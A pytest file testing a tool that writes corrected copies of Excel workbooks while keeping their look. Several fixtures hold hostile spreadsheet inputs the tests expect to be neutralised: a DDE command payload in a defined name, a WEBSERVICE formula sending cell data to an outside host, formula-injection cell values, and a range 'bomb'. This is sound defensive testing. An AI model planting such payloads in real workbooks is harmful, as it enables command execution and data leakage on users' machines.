"""The corrected workbook looks as the original does, holds values only, and says what it could not hold."""

import re
import zipfile
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import Border, Font, PatternFill, Side
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.table import Table

from postil.data.checks.overlay import Edit, Overlay
from postil.data.corrected import workbook_look, workbook_parts
from postil.data.corrected.settling import settle
from postil.data.corrected.writing import write_corrected
from postil.data.records import read_records
from postil.data.validation import validate_dataset
from postil.language import use_language
from postil.problems import Place

ROWS = (
    ("question", "answer", "on", "price"),
    ("When do you open?", "At nine.", date(2024, 5, 1), 1.5),
    ("Where <b>are</b> you?", "In the park.", date(2024, 5, 2), 2),
    ("No answer?", None, date(2024, 5, 3), 3),
    ("How much is it?", "It is <i>5</i> yuan.", date(2024, 5, 4), 4),
    ("Who are you?", "A shop.", date(2024, 5, 5), 5),
)


@pytest.fixture
def source(tmp_path):
    return tmp_path / "a.xlsx"


@pytest.fixture
def target(tmp_path):
    return tmp_path / "b.xlsx"


def shop():
    """A workbook whose row 4 is to be left out, and whose rows 3 and 5 are to be mended."""
    book = Workbook()
    sheet = book.active
    sheet.title = "FAQ"
    for row in ROWS:
        sheet.append(list(row))
    return book, sheet


def corrected(source, target, book=None, **wanted):
    """What was written and the written workbook; a workbook given is saved as the source first."""
    if book is not None:
        book.save(source)
    settled = settle(source, **wanted)
    written = write_corrected(settled.records, settled.overlay, target)
    return written, load_workbook(target, rich_text=True)


def drop(source, target, *places):
    """The copy without the rows at (sheet, row)."""
    edits = tuple(Edit(Place(source.name, row, sheet), "drop_row", "asked") for sheet, row in places)
    written = write_corrected(read_records(source), Overlay("", edits), target)
    return written, load_workbook(target)


def rewrite(path, change, part="xl/worksheets/sheet1.xml"):
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts[part] = change(parts.get(part, b"").decode()).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def said(path):
    return [[m.content for m in c.messages] for c in validate_dataset(read_records(path)).conversations]


def test_cells_keep_fonts_fills_borders_widths_and_formats(source, target):
    book, sheet = shop()
    for row in sheet.iter_rows():
        for cell in row:
            cell.font, cell.border = Font(name="Arial", size=14, bold=True), Border(bottom=Side("thick"))
        row[0].fill, row[3].number_format = PatternFill("solid", fgColor="FF0000"), "0.00"
    sheet.column_dimensions["B"].width, sheet.column_dimensions["D"].hidden = 44, True
    sheet.row_dimensions[4].height, sheet.row_dimensions[5].height = 44, 55
    sheet.sheet_properties.tabColor, sheet.sheet_view.zoomScale = "00FF00", 70
    written, copy = corrected(source, target, book)
    assert (written.look, written.left_out) == ("kept", ())
    found = copy["FAQ"]
    assert [c.value for c in found["A"]] == [
        row[0].replace("<b>", "").replace("</b>", "") for row in ROWS[:3] + ROWS[4:]
    ]
    cells = [cell for row in found.iter_rows() for cell in row]
    assert {(c.font.name, c.font.size, c.font.bold, c.border.bottom.style) for c in cells} == {
        ("Arial", 14, True, "thick")
    }
    assert (found["C2"].value.date(), found["C2"].number_format) == (date(2024, 5, 1), "yyyy-mm-dd")
    assert (found["D4"].value, found["D4"].number_format) == (4, "0.00")
    assert (found.column_dimensions["B"].width, found.column_dimensions["D"].hidden) == (44, True)
    assert (found.row_dimensions[4].height, found.row_dimensions[5].height) == (55, None)
    assert (found.sheet_properties.tabColor.rgb, found.sheet_view.zoomScale) == ("0000FF00", 70)
    assert found["A2"].fill.fgColor.rgb == "00FF0000"
    assert found["A3"].fill.fgColor.rgb == found["B4"].fill.fgColor.rgb == "00FFF2CC"
    assert said(target) == [
        ["When do you open?", "At nine."],
        ["Where are you?", "In the park."],
        ["How much is it?", "It is 5 yuan."],
        ["Who are you?", "A shop."],
    ]


def test_whatever_names_a_row_moves_with_it(source, target):
    book, sheet = shop()
    sheet.freeze_panes, sheet.auto_filter.ref, sheet.print_area = "A2", "A1:D6", "A1:D6"
    sheet.print_title_rows = "1:1"
    sheet["A5"].comment, sheet["A6"].hyperlink = Comment("note", "me"), "https://example.com/"
    sheet["A4"].comment = Comment("gone", "me")
    choice = DataValidation("list", "$F$3:$F$6", sqref="D2:D6 D4")
    sheet.add_data_validation(choice)
    sheet.conditional_formatting.add("B2:B6", FormulaRule(["LEN(B2)=0"], fill=PatternFill("solid", bgColor="FF0000")))
    sheet.conditional_formatting.add("B4", FormulaRule(["TRUE"]))
    other = book.create_sheet("Other")
    other.add_data_validation(DataValidation("list", "FAQ!$A$5:$A$6", sqref="A1:A9"))
    book.defined_names["last"] = DefinedName("last", attr_text="FAQ!$A$6")
    book.defined_names["lost"] = DefinedName("lost", attr_text="FAQ!$A$4:$B$4")
    _, copy = corrected(source, target, book)
    found = copy["FAQ"]
    assert (found.freeze_panes, found.auto_filter.ref, found.print_area) == ("A2", "A1:D5", "'FAQ'!$A$1:$D$5")
    assert found.print_title_rows == "$1:$1"
    assert (found["A4"].comment.text, found["A5"].hyperlink.ref) == ("note", "A5")
    assert found["A5"].hyperlink.target == "https://example.com/"
    assert sum(cell.comment is not None for row in found.iter_rows() for cell in row) == 1
    (rule,) = found.data_validations.dataValidation
    assert (str(rule.sqref), rule.formula1) == ("D2:D5", "$F$3:$F$5")
    ((formatting, rules),) = [(str(f.sqref), f.rules) for f in found.conditional_formatting]
    assert (formatting, rules[0].formula, rules[0].dxf.fill.bgColor.rgb) == ("B2:B5", ["LEN(B2)=0"], "00FF0000")
    assert copy["Other"].data_validations.dataValidation[0].formula1 == "FAQ!$A$4:$A$5"
    assert copy.defined_names["last"].value == "FAQ!$A$5"
    assert copy.defined_names["lost"].value == "FAQ!#REF!"


def test_frozen_rows_that_go_are_frozen_no_more(source, target):
    book = Workbook()
    book.active.append(["question", "answer"])
    for number in range(4):
        book.active.append([f"q{number}", f"a{number}"])
    book.active.freeze_panes = "B4"
    book.save(source)
    _, copy = drop(source, target, ("Sheet", 2))
    pane = copy["Sheet"].sheet_view.pane
    assert (pane.topLeftCell, pane.ySplit, pane.xSplit) == ("B3", 2, 1)


def test_merged_cells_stay_merged_and_shrink(source, target):
    book = Workbook()
    sheet = book.active
    sheet.append(["Our shop"])
    for row in (
        ("topic", "question", "answer"),
        ("a", "q1", "a1"),
        (None, "q2", ""),
        (None, "q3", "a3"),
        ("b", "q4", ""),
        (None, "q5", "<b>a5</b>"),
        (None, "q6", "a6"),
        ("c", "q7", ""),
        (None, "q8", "a8"),
    ):
        sheet.append(list(row))
    for merged in ("A1:C1", "A3:A5", "A6:A8", "A9:A10"):
        sheet.merge_cells(merged)
    sheet["A6"].font = Font(bold=True)
    _, copy = corrected(source, target, book)
    found = copy.worksheets[0]
    assert sorted(map(str, found.merged_cells.ranges)) == ["A1:C1", "A3:A4", "A5:A6"]
    assert [c.value for c in found["A"]] == ["Our shop", "topic", "a", None, "b", None, "c"]
    assert found["A5"].font.bold  # the first row of these merged cells has gone; their look has not
    assert [c.value for c in found["C"]][2:] == ["a1", "a3", "a5", "a6", "a8"]


@pytest.mark.parametrize("is_head_dropped", [False, True])
def test_merged_cells_in_which_all_rows_change_stay_merged(source, target, is_head_dropped):
    _write_merged_questions(source, "Where <b>are</b> you?", is_head_dropped)
    _, copy = corrected(source, target)
    found = copy.worksheets[0]
    assert list(map(str, found.merged_cells.ranges)) == ["A2:A3" if is_head_dropped else "A2:A4"]
    assert found["A2"].value == "Where are you?"
    assert [pair[0] for pair in said(target)] == ["Where are you?"] * (2 if is_head_dropped else 3)


def _write_merged_questions(path, question, is_head_dropped):
    book = Workbook()
    sheet = book.active
    sheet.append(["question", "answer"])
    for row in ((question, "" if is_head_dropped else "one"), (None, "two"), (None, "three")):
        sheet.append(list(row))
    sheet.merge_cells("A2:A4")
    book.save(path)


def test_merged_cells_in_which_one_row_changes_come_apart(source, target):
    _write_merged_questions(source, "Where <b>are</b> you?", False)
    overlay = Overlay("", (Edit(Place("a.xlsx", 3, "Sheet"), "strip_html", "html"),))
    written = write_corrected(read_records(source), overlay, target)
    found = load_workbook(target).worksheets[0]
    assert written.look == "kept"
    assert not found.merged_cells.ranges
    assert [c.value for c in found["A"]][1:] == ["Where <b>are</b> you?", "Where are you?", "Where <b>are</b> you?"]


def test_tables_move_and_end_where_nothing_is_left_of_them(source, target):
    book, sheet = shop()
    sheet.add_table(Table(displayName="Faq", ref="A1:D6"))
    other = book.create_sheet("Other")
    for row in (("question", "answer"), ("Why?", "")):
        other.append(list(row))
    other.add_table(Table(displayName="Gone", ref="A1:B2"))
    book.save(source)
    rewrite(source, _with_column_formula, "xl/tables/table1.xml")
    _, copy = corrected(source, target)
    table = copy["FAQ"].tables["Faq"]
    assert (table.ref, table.autoFilter.ref) == ("A1:D5", "A1:D5")
    assert table.tableColumns[3].calculatedColumnFormula is None
    assert not copy["Other"].tables
    assert copy["Other"]["A1"].value == "question"


def test_a_table_whose_header_changes_ends(source, target):
    book = Workbook()
    for row in (("<b>Where</b> are you?", "In the park."), ("When?", "At nine."), ("Who?", "A shop.")):
        book.active.append(row)
    book.active.add_table(Table(displayName="Faq", ref="A1:B3"))
    book.save(source)
    records = read_records(source)
    overlay = Overlay("", (Edit(Place("a.xlsx", 1, "Sheet"), "strip_html", "html"),))
    assert write_corrected(records, overlay, target).look == "kept"
    found = load_workbook(target).worksheets[0]
    assert found["A1"].value == "Where are you?"
    assert not found.tables


def _with_column_formula(xml):
    formula = "<calculatedColumnFormula>1+1</calculatedColumnFormula>"
    return re.sub(r'(<tableColumn id="4"[^>]*?)\s*/>', rf"\1>{formula}</tableColumn>", xml)


def test_formulas_become_values_and_texts_like_them_stay_texts(source, target):
    book, sheet = shop()
    for row in (("=1+1", "x"), ("-5", "+86 138"), ("@home", "- one")):
        sheet.append(list(row))
        for cell in sheet[sheet.max_row]:
            cell.data_type = "s"
    sheet["D2"] = "=SUM(D3:D9)"
    book.save(source)
    rewrite(source, lambda xml: xml.replace("<f>SUM(D3:D9)</f><v />", "<f>SUM(D3:D9)</f><v>14</v>"))
    rewrite(source, lambda xml: xml.replace("</row></sheetData>", '<c r="E9" t="f"><v>=cmd</v></c></row></sheetData>'))
    written, copy = corrected(source, target)
    assert written.look == "kept"
    found = copy["FAQ"]
    assert found["D2"].value == 14
    assert b"<f" not in zipfile.ZipFile(target).read("xl/worksheets/sheet1.xml")
    cells = {c.value: c for row in found.iter_rows() for c in row if isinstance(c.value, str)}
    for text in ("=1+1", "@home", "- one", "=cmd"):
        assert (cells[text].data_type, cells[text].quotePrefix) == ("s", True)
    assert not cells["-5"].quotePrefix


def test_numbers_with_more_digits_than_excel_keeps_lose_none(source, target):
    book, _ = shop()
    book.save(source)
    rewrite(source, lambda xml: xml.replace("<v>1.5</v>", "<v>12345678901234567</v>"))
    _, copy = corrected(source, target)
    assert copy["FAQ"]["D2"].value == "12345678901234567"


def test_a_number_that_changes_stays_a_number(source, target):
    book = Workbook()
    for row in (("question", "answer"), ("How much?", 5.0), ("How long?", "5")):
        book.active.append(list(row))
    book.active["B2"].number_format = "0.0"
    book.save(source)
    pen = workbook_look._Pen(book.active)
    pen.write(2, 1, "7")
    pen.write(3, 1, "7")
    assert [(c.value, c.data_type) for c in book.active["B"]][1:] == [(7, "n"), ("7", "s")]
    assert book.active["B2"].number_format == "0.0"


def test_hidden_sheets_stay_hidden_and_nothing_reaches_out(source, target):
    book, sheet = shop()
    hidden = book.create_sheet("Old")
    hidden.append(["old", "<b>note</b>"])
    hidden.sheet_state = "veryHidden"
    sheet.add_data_validation(DataValidation("list", "[1]Lists!$A$1:$A$3", sqref="A2:A6"))
    sheet.add_data_validation(DataValidation("list", '"yes,no"', sqref="B2:B6"))
    sheet.conditional_formatting.add("B2", FormulaRule(['_xlfn.WEBSERVICE("https://example.com/"&B2)="x"']))
    for name, formula in (("far", "[1]Sheet1!$A$1"), ("run", "cmd|'/c calc'!A0"), ("near", "FAQ!$A$1")):
        book.defined_names[name] = DefinedName(name, attr_text=formula)
    written, copy = corrected(source, target, book)
    assert (written.look, written.left_out) == ("kept", ("links",))
    assert copy["Old"].sheet_state == "veryHidden"
    assert copy["Old"]["B1"].value == "<b>note</b>"
    assert [v.formula1 for v in copy["FAQ"].data_validations.dataValidation] == ['"yes,no"']
    assert list(copy.defined_names) == ["near"]
    assert not list(copy["FAQ"].conditional_formatting)


def test_rich_text_stays_rich(source, target):
    from openpyxl.cell.rich_text import CellRichText, TextBlock
    from openpyxl.cell.text import InlineFont

    book, sheet = shop()
    sheet["B2"] = CellRichText("At ", TextBlock(InlineFont(b=True), "nine."))
    _, copy = corrected(source, target, book)
    assert copy["FAQ"]["B2"].value[1].font.b
    assert said(target)[0] == ["When do you open?", "At nine."]


def test_what_is_masked_stands_nowhere_beside_the_cells(source, target):
    book = Workbook()
    sheet = book.active
    for row in (("question", "answer"), ("Who helps?", "Write to li.lei@parkshop.cn"), ("When?", "At nine.")):
        sheet.append(list(row))
    sheet["B2"].hyperlink = "mailto:li.lei@parkshop.cn"
    sheet["B3"].hyperlink = "https://example.com/"
    sheet["A2"].comment = Comment("li.lei@parkshop.cn knows", "me")
    sheet.oddHeader.left.text = "Ask li.lei@parkshop.cn"
    sheet.auto_filter.ref = "A1:B3"
    sheet.auto_filter.add_filter_column(1, ["Write to li.lei@parkshop.cn"])
    sheet.add_data_validation(DataValidation("list", '"li.lei@parkshop.cn,x"', sqref="B2"))
    book.properties.creator = "li.lei@parkshop.cn"
    written, copy = corrected(source, target, book, only=["personal_data"])
    assert written.look == "kept"
    with zipfile.ZipFile(target) as archive:
        assert not [name for name in archive.namelist() if b"li.lei" in archive.read(name)]
    assert copy.worksheets[0]["B3"].hyperlink.target == "https://example.com/"


def test_what_the_copy_cannot_hold_is_named(source, target):
    from openpyxl.chart import BarChart, Reference

    book, sheet = shop()
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=4, min_row=1, max_row=6))
    sheet.add_chart(chart, "F2")
    book.create_chartsheet("Chart")
    book.create_sheet("Last").append(["x"])
    sheet.print_title_rows = "1:1"
    book["Last"].print_title_rows = "1:1"
    book.save(source)
    # As Excel counts sheets, and openpyxl does not.
    rewrite(source, lambda xml: xml.replace('localSheetId="1"', 'localSheetId="2"'), "xl/workbook.xml")
    for part in ("xl/vbaProject.bin", "xl/media/image1.png", "xl/externalLinks/externalLink1.xml"):
        rewrite(source, lambda _: "x", part)
    rewrite(
        source,
        lambda xml: xml.replace(
            "</worksheet>", "<extLst><ext uri='u'><x14:dataValidations/></ext></extLst></worksheet>"
        ).replace("<worksheet ", '<worksheet xmlns:x14="x14" '),
    )
    written, copy = corrected(source, target)
    assert written.look == "kept"
    assert written.left_out == ("pictures", "charts", "macros", "links", "extensions")
    assert copy.sheetnames == ["FAQ", "Last", "Postil changes"]
    assert copy["Last"].print_title_rows == "$1:$1"
    assert not [name for name in zipfile.ZipFile(target).namelist() if "drawing" in name or "vba" in name]


@pytest.mark.parametrize(("language", "title"), [("en", "Postil changes"), ("zh", "Postil 修改记录")])
def test_the_list_of_changes_is_named_in_the_users_language_and_read_in_none(source, target, language, title):
    use_language(language)
    try:
        _, copy = corrected(source, target, shop()[0])
        assert copy.sheetnames == ["FAQ", title]
        use_language("en" if language == "zh" else "zh")
        assert read_records(target).sheets == ("FAQ",)
        again, _ = corrected(target, source.with_name("c.xlsx"))
        assert not again.changes
        assert load_workbook(source.with_name("c.xlsx")).sheetnames == ["FAQ"]
    finally:
        use_language(None)


@pytest.mark.parametrize("name", ["MAX_ITEMS", "MAX_ELEMENTS", "MAX_BYTES"])
def test_a_large_workbook_is_copied_plainly(source, target, monkeypatch, name):
    monkeypatch.setattr(workbook_parts, name, 20)
    written, copy = corrected(source, target, shop()[0])
    assert written.look == "too_large"
    assert len(said(target)) == 4
    assert copy["FAQ"].column_dimensions["A"].width > 15


def test_one_text_in_very_many_cells_is_too_much(source, target, monkeypatch):
    monkeypatch.setattr(workbook_look, "MAX_CHARS", 50)
    written, _ = corrected(source, target, shop()[0])
    assert written.look == "too_large"
    assert len(said(target)) == 4


def test_items_are_counted_once_whatever_the_pieces_are(source, monkeypatch):
    shop()[0].save(source)
    with zipfile.ZipFile(source) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
        rest = b"".join(archive.read(name) for name in archive.namelist() if "worksheets" not in name)
    # Cells and rows, and what the styles hold.
    num_items = (
        sheet.count(b"<c ") + sheet.count(b"<row ") + len(re.findall(rb"<(?:\w+:)?(?:xf|font|fill|border)[ />]", rest))
    )
    for size in (7, 50, 1 << 20):
        monkeypatch.setattr(workbook_parts, "_PIECE_BYTES", size)
        monkeypatch.setattr(workbook_parts, "MAX_ITEMS", num_items)
        assert workbook_parts.survey_parts(source).obstacle is None
        monkeypatch.setattr(workbook_parts, "MAX_ITEMS", num_items - 1)
        assert workbook_parts.survey_parts(source).obstacle == "too_large"


def test_a_workbook_whose_look_is_damaged_is_copied_plainly(source, target):
    book, sheet = shop()
    sheet["A2"].comment = Comment("note", "me")
    book.save(source)
    rewrite(source, lambda xml: xml[:50], "xl/comments/comment1.xml")
    written, _ = corrected(source, target)
    assert written.look == "not_kept"
    assert len(said(target)) == 4


def test_a_copy_with_its_look_that_reads_differently_is_written_plainly(source, target, monkeypatch):
    monkeypatch.setattr(workbook_look._Pen, "write", lambda *_, **__: None)
    written, _ = corrected(source, target, shop()[0])
    assert written.look == "not_kept"
    assert said(target)[1][0] == "Where are you?"


def test_ranges_over_billions_of_cells_cost_nothing(source, target):
    book, _ = shop()
    book.save(source)
    bomb = "</sheetData>" + '<mergeCells><mergeCell ref="F1:XFD1048576"/></mergeCells>'
    bomb += '<hyperlinks><hyperlink ref="F1:XFD1048576" location="A1"/></hyperlinks>'
    rewrite(source, lambda xml: xml.replace("</sheetData>", bomb))
    settled = settle(source)
    assert write_corrected(settled.records, settled.overlay, target).look == "kept"
    assert b"F1:XFD1048575" in zipfile.ZipFile(target).read("xl/worksheets/sheet1.xml")


def test_a_sheet_named_a_thousand_times_is_not_read_a_thousand_times(source, target):
    book, _ = shop()
    book.create_sheet("Two")
    book.save(source)
    rewrite(source, lambda xml: xml.replace("sheet2.xml", "sheet1.xml"), "xl/_rels/workbook.xml.rels")
    written, _ = corrected(source, target)
    assert written.look == "not_kept"


def test_a_folder_tells_of_the_workbook_that_fared_worst(tmp_path, monkeypatch):
    (tmp_path / "a").mkdir()
    shop()[0].save(tmp_path / "a" / "large.xlsx")
    book = Workbook()
    for row in (("question", "answer"), ("More?", "Yes.")):
        book.active.append(row)
    book.save(tmp_path / "a" / "small.xlsx")
    rewrite(tmp_path / "a" / "small.xlsx", lambda _: "x", "xl/media/image1.png")
    monkeypatch.setattr(workbook_parts, "MAX_ITEMS", 25)
    settled = settle(tmp_path / "a")
    written = write_corrected(settled.records, settled.overlay, tmp_path / "b")
    assert (written.look, written.left_out) == ("too_large", ("pictures",))
